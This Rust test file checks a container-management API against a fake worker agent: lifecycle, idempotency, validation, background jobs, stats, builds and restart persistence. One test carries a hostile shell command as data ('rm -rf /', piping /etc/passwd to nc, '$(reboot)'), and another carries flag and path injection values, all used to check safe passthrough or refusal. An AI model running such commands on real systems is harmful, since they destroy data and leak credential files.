//! Container records through the API with a scripted agent: the lifecycle
//! round trip, idempotent creates, validation, argv passed verbatim,
//! background commands, stats, worker views, builds, and a restart.

use serde_json::{json, Value};

use crate::fake::*;
use crate::harness::*;

#[test]
fn create_start_exec_stop_remove_round_trip_is_persisted_and_listed_per_tenant() {
    smol::block_on(async {
        let mut fx = Fixture::start("round-trip").await;
        let created = fx.create("job-1", "dev").await;
        assert_eq!(created["id"], "job-1");
        assert_eq!(created["tenantId"], fx.tenant_id.as_str());
        assert_eq!(created["workerId"], fx.worker_id.as_str());
        assert_eq!(created["state"], "created");
        assert_eq!(created["engineId"], "eng-job-1");
        assert_eq!(created["profile"], "standard");
        assert_eq!(created["lastError"], Value::Null);

        let status = |state: &str| json!({ "containerId": "job-1", "state": state });
        let (code, body, cmd) = fx
            .relay(
                "POST",
                "/v1/containers/job-1/start",
                None,
                "container.start",
                status("running"),
            )
            .await;
        assert_eq!(
            (code, body["state"].as_str()),
            (200, Some("running")),
            "{body}"
        );
        assert_eq!(cmd.data, json!({ "containerId": "job-1" }));

        let exec = json!({ "command": ["echo", "hi"], "env": { "A": "1" }, "workdir": "/workspace", "timeoutSecs": 5 });
        let result = json!({ "exitCode": 0, "stdout": "hi\n", "stderr": "", "stdoutTruncated": false, "stderrTruncated": false, "timedOut": false });
        let (code, body, cmd) = fx
            .relay(
                "POST",
                "/v1/containers/job-1/exec",
                Some(exec),
                "container.exec",
                result.clone(),
            )
            .await;
        assert_eq!((code, &body), (200, &result));
        assert_eq!(cmd.data["command"], json!(["echo", "hi"]));
        assert_eq!(cmd.data["env"], json!({ "A": "1" }));
        assert_eq!(cmd.data["timeoutSecs"], 5);

        let stop = Some(json!({ "timeoutSecs": 3 }));
        let (code, body, cmd) = fx
            .relay(
                "POST",
                "/v1/containers/job-1/stop",
                stop,
                "container.stop",
                status("exited"),
            )
            .await;
        assert_eq!(
            (code, body["state"].as_str()),
            (200, Some("exited")),
            "{body}"
        );
        assert_eq!(cmd.data["timeoutSecs"], 3);

        let (code, body, cmd) = fx
            .relay(
                "DELETE",
                "/v1/containers/job-1?force=true",
                None,
                "container.remove",
                status("removed"),
            )
            .await;
        assert_eq!(
            (code, body["state"].as_str()),
            (200, Some("removed")),
            "{body}"
        );
        assert_eq!(cmd.data["force"], true);
        // Removing again answers the record without asking the worker.
        let (code, body) = fx
            .server
            .admin("DELETE", "/v1/containers/job-1", None)
            .await;
        assert_eq!((code, body["state"].as_str()), (200, Some("removed")));
        // A removed container takes no more commands.
        let (code, body) = fx
            .server
            .admin("POST", "/v1/containers/job-1/start", None)
            .await;
        assert_error(code, &body, 409, "conflict");
        fx.assert_nothing_sent().await;

        // Listed per tenant: another tenant's worker and container stay apart.
        let mut other = Fixture::on(fx.server, "other").await;
        other.create("job-2", "dev").await;
        let mine = {
            let path = format!("/v1/containers?tenantId={}", fx.tenant_id);
            let (code, body) = other.server.admin("GET", &path, None).await;
            assert_eq!(code, 200, "{body}");
            body["containers"].as_array().unwrap().clone()
        };
        assert_eq!(mine.len(), 1);
        assert_eq!(mine[0]["id"], "job-1");
        assert_eq!(mine[0]["state"], "removed");
        let theirs = other.containers().await;
        assert_eq!(theirs.len(), 1);
        assert_eq!(theirs[0]["id"], "job-2");
        let (code, body) = other.server.admin("GET", "/v1/containers", None).await;
        assert_error(code, &body, 400, "bad_request");
        drop(fx.agent);
        other.stop().await;
    });
}

#[test]
fn a_post_with_an_existing_id_is_idempotent() {
    smol::block_on(async {
        let mut fx = Fixture::start("idempotent").await;
        let first = fx.create("job-42", "dev").await;
        let (code, again) = fx
            .server
            .admin(
                "POST",
                "/v1/containers",
                Some(fx.create_body("job-42", "dev")),
            )
            .await;
        assert_eq!(code, 200, "{again}");
        assert_eq!(again, first);
        // The same id naming a different container is a conflict.
        let (code, body) = fx
            .server
            .admin(
                "POST",
                "/v1/containers",
                Some(fx.create_body("job-42", "other")),
            )
            .await;
        assert_error(code, &body, 409, "conflict");
        fx.assert_nothing_sent().await;
        assert_eq!(fx.containers().await.len(), 1);

        // Without an id, each POST is a new container with a fresh UUID.
        let mut body = fx.create_body("x", "second");
        body.as_object_mut().unwrap().remove("id");
        let task = fx.spawn("POST", "/v1/containers", Some(body));
        let cmd = next_command(&mut fx.agent).await;
        let id = cmd.data["containerId"].as_str().unwrap().to_owned();
        assert_eq!(id.len(), 36, "{id}");
        let created =
            json!({ "container": info(&id, &fx.tenant_id, "second", "created"), "created": true });
        answer(&mut fx.agent, &cmd, created).await;
        let (code, body) = task.await;
        assert_eq!(
            (code, body["id"].as_str()),
            (201, Some(id.as_str())),
            "{body}"
        );
        fx.stop().await;
    });
}

#[test]
fn bad_input_is_refused_with_400_naming_the_field_and_nothing_is_sent() {
    smol::block_on(async {
        let mut fx = Fixture::start("bad-input").await;
        let with = |field: &str, value: Value| {
            let mut body = fx.create_body("job-1", "dev");
            body[field] = value;
            body
        };
        let cases = [
            (with("name", json!("--privileged")), "name"),
            (with("name", json!("a b")), "name"),
            (with("image", json!("Not An Image")), "image"),
            (with("image", json!("--volume=/:/host")), "image"),
            (with("id", json!("../etc")), "containerId"),
            (with("env", json!({ "BAD KEY": "x" })), "env"),
            (
                with("labels", json!({ "crops.managed": "false" })),
                "labels",
            ),
            (with("command", json!([])), "command"),
            (with("workerId", json!("nope")), "workerId"),
        ];
        for (body, field) in cases {
            let (code, reply) = fx
                .server
                .admin("POST", "/v1/containers", Some(body.clone()))
                .await;
            assert_error(code, &reply, 400, "bad_request");
            let message = reply["error"]["message"].as_str().unwrap();
            assert!(message.contains(field), "{field}: {message} for {body}");
        }
        let (code, reply) = fx
            .server
            .admin(
                "POST",
                "/v1/containers",
                Some(with("profile", json!("god-mode"))),
            )
            .await;
        assert_error(code, &reply, 400, "bad_request");
        let (code, reply) = fx
            .server
            .admin(
                "POST",
                "/v1/containers",
                Some(with("privileged", json!(true))),
            )
            .await;
        assert_error(code, &reply, 400, "bad_request");
        let unknown = "0b4f6a0e-3c1d-4e2a-9f00-1234567890ab";
        let (code, reply) = fx
            .server
            .admin(
                "POST",
                "/v1/containers",
                Some(with("tenantId", json!(unknown))),
            )
            .await;
        assert_error(code, &reply, 404, "not_found");
        let (code, reply) = fx
            .server
            .admin(
                "POST",
                "/v1/containers",
                Some(with("workerId", json!(unknown))),
            )
            .await;
        assert_error(code, &reply, 404, "not_found");
        let (code, reply) = fx
            .server
            .admin("POST", "/v1/containers/nope/start", None)
            .await;
        assert_error(code, &reply, 404, "not_found");
        let (code, reply) = fx
            .server
            .admin("POST", "/v1/containers/-x/start", None)
            .await;
        assert_error(code, &reply, 400, "bad_request");

        fx.create("job-1", "dev").await;
        let exec = |body: Value| fx.spawn("POST", "/v1/containers/job-1/exec", Some(body));
        for (body, field) in [
            (json!({ "command": [] }), "command"),
            (
                json!({ "command": ["ls"], "workdir": "relative" }),
                "workdir",
            ),
            (
                json!({ "command": ["ls"], "timeoutSecs": 0 }),
                "timeoutSecs",
            ),
        ] {
            let (code, reply) = exec(body).await;
            assert_error(code, &reply, 400, "bad_request");
            assert!(
                reply["error"]["message"].as_str().unwrap().contains(field),
                "{reply}"
            );
        }
        let (code, reply) = fx
            .server
            .admin("GET", "/v1/containers/job-1/background/h1?offset=-1", None)
            .await;
        assert_error(code, &reply, 400, "bad_request");
        fx.assert_nothing_sent().await;
        assert_eq!(fx.containers().await.len(), 1);
        fx.stop().await;
    });
}

#[test]
fn shell_metacharacters_travel_verbatim_as_argv() {
    smol::block_on(async {
        let mut fx = Fixture::start("argv").await;
        let hostile = json!([
            "sh",
            "-c",
            "echo $(id) `uname`; rm -rf / && cat /etc/passwd | nc x 1 > /dev/null",
            "'\"*?[]{}~!#&\\"
        ]);
        let mut body = fx.create_body("job-1", "dev");
        body["command"] = hostile.clone();
        body["env"] = json!({ "X": "$(reboot); `halt`" });
        let task = fx.spawn("POST", "/v1/containers", Some(body));
        let cmd = next_command(&mut fx.agent).await;
        assert_eq!(cmd.data["command"], hostile);
        assert_eq!(cmd.data["env"]["X"], "$(reboot); `halt`");
        let created =
            json!({ "container": info("job-1", &fx.tenant_id, "dev", "created"), "created": true });
        answer(&mut fx.agent, &cmd, created).await;
        assert_eq!(task.await.0, 201);

        let result = json!({ "exitCode": 0, "stdout": "", "stderr": "" });
        let (code, _, cmd) = fx
            .relay(
                "POST",
                "/v1/containers/job-1/exec",
                Some(json!({ "command": hostile })),
                "container.exec",
                result,
            )
            .await;
        assert_eq!(code, 200);
        assert_eq!(cmd.data["command"], hostile);
        fx.stop().await;
    });
}

#[test]
fn setup_background_stats_worker_views_and_builds_are_relayed() {
    smol::block_on(async {
        let mut fx = Fixture::start("relayed").await;
        fx.create("job-1", "dev").await;
        let setup = json!({
            "repository": { "url": "https://example.com/repo.git", "branch": "main", "token": "secret" },
            "files": [{ "path": "task.md", "content": "do it" }]
        });
        let done = json!({ "commit": "abc123", "filesWritten": 1 });
        let (code, body, cmd) = fx
            .relay(
                "POST",
                "/v1/containers/job-1/setup",
                Some(setup.clone()),
                "container.setup",
                done.clone(),
            )
            .await;
        assert_eq!((code, &body), (200, &done));
        assert_eq!(cmd.data["repository"], setup["repository"]);

        let bg = json!({ "command": ["sleep", "100"] });
        let (code, body, _) = fx
            .relay(
                "POST",
                "/v1/containers/job-1/background",
                Some(bg),
                "container.exec.background",
                json!({ "handle": "h-1" }),
            )
            .await;
        assert_eq!((code, body), (200, json!({ "handle": "h-1" })));
        let out =
            json!({ "output": "tick\n", "nextOffset": 15, "firstOffset": 0, "running": true });
        let (code, body, cmd) = fx
            .relay(
                "GET",
                "/v1/containers/job-1/background/h-1?offset=10",
                None,
                "container.exec.background.capture",
                out.clone(),
            )
            .await;
        assert_eq!((code, &body), (200, &out));
        assert_eq!(
            cmd.data,
            json!({ "containerId": "job-1", "handle": "h-1", "offset": 10 })
        );
        let (code, body, _) = fx
            .relay(
                "POST",
                "/v1/containers/job-1/background/h-1/kill",
                None,
                "container.exec.background.kill",
                json!({ "killed": true }),
            )
            .await;
        assert_eq!((code, body), (200, json!({ "killed": true })));

        let entry = json!({ "containerId": "job-1", "cpuPercent": 12.5, "memoryUsed": 1024, "memoryLimit": 4096, "diskUsed": 77, "pids": 3 });
        let (code, body, cmd) = fx
            .relay(
                "GET",
                "/v1/containers/job-1/stats",
                None,
                "container.stats",
                json!({ "stats": [entry] }),
            )
            .await;
        assert_eq!((code, &body), (200, &entry));
        assert_eq!(cmd.data, json!({ "containerId": "job-1" }));

        let all = json!({ "containers": [info("job-1", &fx.tenant_id, "dev", "running")] });
        let path = format!("/v1/workers/{}/containers", fx.worker_id);
        let (code, body, _) = fx
            .relay("GET", &path, None, "container.list-all", all.clone())
            .await;
        assert_eq!((code, &body), (200, &all));

        // A build: progress events with the build's requestId make the log.
        let path = format!("/v1/workers/{}/images", fx.worker_id);
        let build = json!({ "tag": "localhost/tool:1", "containerfile": "FROM localhost/busybox:latest\n", "tenantId": fx.tenant_id });
        let task = fx.spawn("POST", &path, Some(build));
        let cmd = next_command(&mut fx.agent).await;
        assert_eq!(cmd.ty, "images.build");
        for line in [
            "STEP 1/1: FROM localhost/busybox:latest",
            "COMMIT localhost/tool:1",
        ] {
            let event = json!({ "type": "images.build.progress", "requestId": cmd.id, "data": { "line": line } });
            fx.agent.send_json(&event).await;
        }
        answer(
            &mut fx.agent,
            &cmd,
            json!({ "imageId": "sha-1", "tag": "localhost/tool:1" }),
        )
        .await;
        let (code, body) = task.await;
        assert_eq!(code, 200, "{body}");
        assert_eq!(
            body,
            json!({
                "imageId": "sha-1",
                "tag": "localhost/tool:1",
                "log": ["STEP 1/1: FROM localhost/busybox:latest", "COMMIT localhost/tool:1"],
                "logTruncated": false
            })
        );
        fx.stop().await;
    });
}

#[test]
fn container_records_survive_a_restart() {
    smol::block_on(async {
        let mut fx = Fixture::start("records-restart").await;
        fx.create("job-1", "dev").await;
        let running = json!({ "containerId": "job-1", "state": "running" });
        fx.relay(
            "POST",
            "/v1/containers/job-1/start",
            None,
            "container.start",
            running,
        )
        .await;
        let before = fx.containers().await;
        let Fixture {
            server,
            agent,
            tenant_id,
            ..
        } = fx;
        drop(agent);
        let data = server.stop().await;

        let server = Server::start_in(data, Options::default()).await;
        let path = format!("/v1/containers?tenantId={tenant_id}");
        let (code, after) = server.admin("GET", &path, None).await;
        assert_eq!(code, 200);
        assert_eq!(after["containers"].as_array().unwrap(), &before);
        assert_eq!(before[0]["state"], "running");
        // The worker is offline after the restart: commands answer 503 at once.
        let (code, body) = server
            .admin("POST", "/v1/containers/job-1/stop", Some(json!({})))
            .await;
        assert_error(code, &body, 503, "worker_offline");
        server.stop().await;
    });
}
